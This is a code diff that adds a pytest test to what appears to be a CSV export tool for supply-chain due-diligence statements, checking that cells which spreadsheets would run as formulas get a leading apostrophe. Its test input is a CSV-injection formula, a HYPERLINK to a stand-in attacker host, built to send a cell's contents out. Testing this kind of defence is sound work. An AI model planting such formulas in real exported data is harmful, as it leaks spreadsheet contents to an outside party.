@@ -456,3 +456,20 @@ def test_an_impact_and_its_measure_are_rows_with_their_links(filled_in: Statemen
     assert (row["id"], row["type"], row["identified_on"], row["remediation_status"], row["measure_ids"]) == (
         "overtime-vn", "actual_impact", "2025-03-01", "ongoing", measure.id)
     assert csv_rows(measures_csv(document))[0]["addresses"] == "overtime-vn"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(data: StatementData, start: str) -> None:
+    """OWASP's rule for CSV injection: a cell starting with = + - @ tab or CR gets a leading '."""
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    first, *rest = data.suppliers.suppliers
+    tricky = data.model_copy(update={"suppliers": Suppliers(suppliers=[first.model_copy(update={"name": formula}),
+                                                                      *rest])})
+    assert csv_rows(suppliers_csv(tricky, "en"))[0]["supplier_name"] == "'" + formula
+    # (Texts from data/ are stripped, so a leading tab or CR can only reach a cell through a name.)
+    title = Text(nb=formula, en=formula).en
+    measures = [m.model_copy(update={"title": Text(nb=title, en=title)}) for m in data.due_diligence.measures]
+    with_measures = data.model_copy(update={"due_diligence": data.due_diligence.model_copy(update={"measures": measures})})
+    expected = "'" + title if title[0] in "=+-@" else title
+    assert all(row["title"] == expected for row in csv_rows(measures_csv(statement_model(with_measures, "en"))))
+    assert csv_rows(suppliers_csv(data, "en"))[0]["supplier_name"] == "HP Inc."  # plain text is left as it is
